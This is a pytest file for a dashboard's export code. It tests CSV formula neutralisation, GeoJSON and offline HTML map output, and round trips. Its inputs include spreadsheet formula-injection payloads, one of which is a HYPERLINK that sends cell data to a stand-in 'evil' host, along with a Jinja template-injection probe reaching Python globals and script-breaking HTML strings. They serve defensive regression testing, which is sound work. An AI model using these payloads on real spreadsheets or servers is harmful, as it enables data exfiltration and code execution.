"""Export: CSV safe in spreadsheets, GeoJSON, a standalone offline map; export then import gives the same events."""

from __future__ import annotations

import datetime as dt
import io
import json
import re

import pandas as pd
import pytest

from dashboard import control, export
from dashboard.map import assets, basemap, features, layers
from dashboard.pipeline import open_events
from tests.conftest import FIXTURES, HEADER, REPO
from tests.support import evaluated


@pytest.fixture(scope="module")
def bundled(geodata):
    return open_events(REPO / "events.csv", geodata).events


@pytest.mark.parametrize(
    "cell, written",
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\t-3.5", "'\t-3.5"),
        ("-3.5", "-3.5"),
        ("+4", "+4"),
        ("plain", "plain"),
    ],
)
def test_formula_cells_are_neutralised_and_numbers_left_alone(cell, written):
    assert export.guard(pd.DataFrame({"c": [cell]}))["c"].iloc[0] == written


EVIL_COLUMN = '=HYPERLINK("http://evil/?"&A1,"x")'


def test_a_formula_in_a_column_name_is_neutralised_in_the_csv_header_and_reads_back(write_csv, geodata, tmp_path):
    header = HEADER + "," + '"' + EVIL_COLUMN.replace('"', '""') + '"' + ",@at,+plus"
    first = open_events(write_csv("a1,2024-12-01,Hama,,,clash,,,,AFP,,,,,,,1,2,3", header=header), geodata)
    assert first.accepted == 1 and EVIL_COLUMN in first.events.columns
    exported = export.to_csv(first.events)
    written = pd.read_csv(io.BytesIO(exported), dtype=str, keep_default_na=False).columns.tolist()
    assert written[-3:] == ["'" + EVIL_COLUMN, "'@at", "'+plus"]
    path = tmp_path / "again.csv"
    path.write_bytes(exported)
    again = open_events(path, geodata)
    assert EVIL_COLUMN in again.events.columns
    pd.testing.assert_frame_equal(export.as_text(again.events), export.as_text(first.events))


def test_rejected_csv_neutralises_formulas_in_every_cell_and_the_header():
    rejected = pd.DataFrame(
        {
            "line": [2, 3, 4],
            "column": ["date", "=col", EVIL_COLUMN],
            "value": ['=HYPERLINK("http://evil")', "\tcmd", "-3.5"],
            "reason": ["unparseable date", "@reason", "\rcr"],
            "other_problems": [0, 1, 0],
        }
    )
    written = pd.read_csv(io.BytesIO(export.rejected_csv(rejected)), dtype=str, keep_default_na=False)
    assert written.columns.tolist() == ["line", "column", "value", "reason", "other_problems"]
    assert written.to_dict(orient="list") == {
        "line": ["2", "3", "4"],
        "column": ["date", "'=col", "'" + EVIL_COLUMN],
        "value": ['\'=HYPERLINK("http://evil")', "'\tcmd", "-3.5"],
        "reason": ["unparseable date", "'@reason", "'\rcr"],
        "other_problems": ["0", "1", "0"],
    }
    assert rejected["value"].iloc[0] == '=HYPERLINK("http://evil")'  # the caller's frame is not changed


def test_column_names_starting_with_a_tab_or_a_carriage_return_are_neutralised():
    frame = pd.DataFrame({"\tcmd": ["a"], "\r@cmd": ["b"], "-3.5": ["c"], "plain": ["d"]})
    written = pd.read_csv(io.StringIO(export.guarded_csv(frame)), dtype=str, keep_default_na=False)
    assert written.columns.tolist() == ["'\tcmd", "'\r@cmd", "-3.5", "plain"]


def test_a_value_with_a_carriage_return_inside_stays_one_cell_in_the_csv(write_csv, geodata, tmp_path):
    # The csv writer quotes "\n" but not a bare "\r", which the loader (and a spreadsheet) reads as a line end.
    first = open_events(write_csv('a1,2024-12-01,Hama,,,clash,,,,AFP,,,,"one\rtwo",,'), geodata)
    assert first.events["description"].tolist() == ["one\rtwo"]
    path = tmp_path / "again.csv"
    path.write_bytes(export.to_csv(first.events))
    again = open_events(path, geodata)
    assert (again.rows, again.accepted) == (1, 1)
    pd.testing.assert_frame_equal(export.as_text(again.events), export.as_text(first.events))


def test_rejected_csv_of_no_rejections_is_the_header_alone():
    empty = pd.DataFrame(columns=["line", "column", "value", "reason", "other_problems"])
    assert export.rejected_csv(empty) == b"line,column,value,reason,other_problems\n"


def test_csv_round_trip_gives_the_same_events(write_csv, geodata, tmp_path):
    rows = [
        'a1,2024-12-01,Hama,,,clash,=cmd(),"+x, y",,Reuters; SOHR,monitor,reported,2024-12-02,"@note\nline 2",'
        "https://example.org/a,test,3",
        "a2,2024-12-02,Hill 7,35.5,-0.25,capture,-1+2,,opposition,AFP,independent media,claimed,,-d,,test,",
    ]
    first = open_events(write_csv(*rows, header=HEADER + ",fatalities"), geodata)
    assert first.rejected.empty and first.accepted == 2
    exported = export.to_csv(first.events)
    assert b"'=cmd()" in exported and b"'@note" in exported and b"-0.25" in exported
    path = tmp_path / "again.csv"
    path.write_bytes(exported)
    again = open_events(path, geodata)
    assert again.rejected.empty
    pd.testing.assert_frame_equal(export.as_text(again.events), export.as_text(first.events))


def test_the_bundled_events_survive_a_csv_round_trip(bundled, geodata, tmp_path):
    path = tmp_path / "view.csv"
    path.write_bytes(export.to_csv(bundled))
    again = open_events(path, geodata).events
    pd.testing.assert_frame_equal(export.as_text(again), export.as_text(bundled))


def test_geojson_export_is_points_with_the_native_columns(bundled):
    collection = json.loads(export.to_geojson(bundled))
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == len(bundled)
    first = collection["features"][0]
    assert first["geometry"]["type"] == "Point"
    assert first["properties"]["event_id"] == bundled["event_id"].iloc[0]
    assert first["geometry"]["coordinates"] == [bundled["lon"].iloc[0], bundled["lat"].iloc[0]]


def test_geojson_round_trip_gives_the_same_events(bundled, geodata, tmp_path):
    path = tmp_path / "view.geojson"
    path.write_bytes(export.to_geojson(bundled))
    again = open_events(path, geodata)
    assert again.format == "geojson" and again.rejected.empty
    pd.testing.assert_frame_equal(export.as_text(again.events), export.as_text(bundled))


def test_standalone_map_loads_nothing_from_outside(bundled, geodata):
    assets.install_assets()
    html = export.standalone_html(
        basemap.base_map(basemap.basemap_data(geodata), offline=True), [layers.events_layer(bundled)]
    ).decode()
    assert not re.search(r"<script[^>]+src=", html)
    assert not re.search(r"<link[^>]+href=", html)
    assert "L.map(" in html and bundled["event_id"].iloc[-1] in html
    assert "/app/static/" not in html


def _html_maps(events: pd.DataFrame, day: dt.date, geodata) -> list[str]:
    """The downloaded HTML map of ``events`` on ``day``, control layers included: with the claims drawn
    one by one, and as stories."""
    held = control.control_at(day, geodata.places, control.control_changes(events))
    zones = features.simplified(control.zones_at(held, control.zone_cells(geodata.places, geodata.outline)))
    return [
        export.standalone_html(
            basemap.base_map(basemap.basemap_data(geodata), offline=True),
            [*layers.control_groups(*features.control_json(held, zones)), claims],
        ).decode()
        for claims in (layers.events_layer(events), layers.stories_layer(events))
    ]


TEMPLATE_SYNTAX = "{{ 7777*3 }} {{ cycler.__init__.__globals__.os.getcwd() }} {% if x %} {# open"


def test_template_syntax_in_file_text_is_never_run_in_the_html_map(write_csv, geodata, tmp_path):
    """Found in review: branca compiled each layer's script as a Jinja template when the map was rendered.

    File text such as ``{{ 7777*3 }}`` came out as 23331 in the downloaded map, any Python reachable
    from the template ran on the server, and an unclosed ``{%`` broke the download.
    """
    text = f'"{TEMPLATE_SYNTAX}"'
    rows = [
        f"t1,2024-12-01,{text},35.5,37.0,clash,{text},{text},,{text},monitor,reported,,{text},,{text}",
        f"t2,2024-12-01,Aleppo,36.2,37.16,capture,{text},,{text},{text},monitor,claimed,,{text},,",
    ]
    events = open_events(write_csv(*rows), geodata).events
    assert len(events) == 2
    for html in _html_maps(events, dt.date(2024, 12, 1), geodata):
        assert not evaluated(html) and str(REPO) not in html and str(tmp_path) not in html
        assert html.count("{{ 7777*3 }}") >= 3 and "{% if x %}" in html and "{# open" in html


def _scripts(html: str) -> list[str]:
    """The text of every inline script, as an HTML parser ends it: at the first ``</script``."""
    return re.findall(r"<script>(.*?)</script>", html, flags=re.S | re.I)


def test_comment_and_script_marks_in_every_field_do_not_swallow_the_html_map_s_script(geodata):
    """Found in a red-team pass: JSON in a script escaped only ``</``, so an event id of ``<!--<script>`` put
    the parser in its script-data-escaped state, the script swallowed its own end tag and the map opened blank.
    """
    events = open_events(FIXTURES / "comment_script.csv", geodata).events
    assert len(events) == 3
    for html in _html_maps(events, dt.date(2024, 12, 3), geodata):
        layer_scripts = [s for s in _scripts(html) if "L.geoJSON" in s]
        assert layer_scripts
        for script in layer_scripts:
            assert "<!--" not in script and "<script" not in script.lower()
        assert "\\u003c!--\\u003cscript\\u003e" in html  # the text is there, as JSON escapes


def _wide(columns: int) -> pd.DataFrame:
    events = pd.DataFrame(
        {"event_id": ["a", "b"], "date": pd.to_datetime(["2024-12-01"] * 2), "lat": [35.1, 35.2], "lon": [36.7, 36.8]}
    )
    return pd.concat([events, pd.DataFrame({f"c{i}": ["=x", "y"] for i in range(columns)})], axis=1)


def test_the_csv_export_takes_time_linear_in_the_column_count():
    import time

    def seconds(columns: int) -> float:
        """The fastest of three: a ratio of single timings fails whenever the machine is busy for a moment."""
        wide, took = _wide(columns), []
        for _ in range(3):
            began = time.perf_counter()
            export.to_csv(wide)
            took.append(time.perf_counter() - began)
        return min(took)

    seconds(200)  # warm up
    # Eight times the columns: linear is 8 (4.7 to 6.7 measured for four times, on a quiet and a busy machine),
    # quadratic 64; the bound leaves a busy machine room.
    assert seconds(4000) / seconds(500) < 24


def test_a_wide_csv_export_still_guards_every_cell():
    text = export.to_csv(_wide(3)).decode()
    assert text.splitlines()[1].endswith("'=x,'=x,'=x")


def test_geojson_export_escapes_quotes_backslashes_and_controls_and_skips_rows_without_a_point():
    events = pd.DataFrame(
        {
            "event_id": ["a", "b", "c"],
            "date": pd.to_datetime(["2024-12-01"] * 3),
            "lat": [35.1, float("nan"), 36.0],
            "lon": [36.7, 1.0, 37.25],
            "source": ['Re"ut\\ers\n\x01\t', "x", "\u202eé"],
        }
    )
    document = json.loads(export.to_geojson(events))
    assert [f["properties"]["event_id"] for f in document["features"]] == ["a", "c"]
    assert document["features"][0]["properties"]["source"] == 'Re"ut\\ers\n\x01\t'
    assert document["features"][1]["properties"]["source"] == "\u202eé"
    assert document["features"][1]["geometry"]["coordinates"] == [37.25, 36.0]
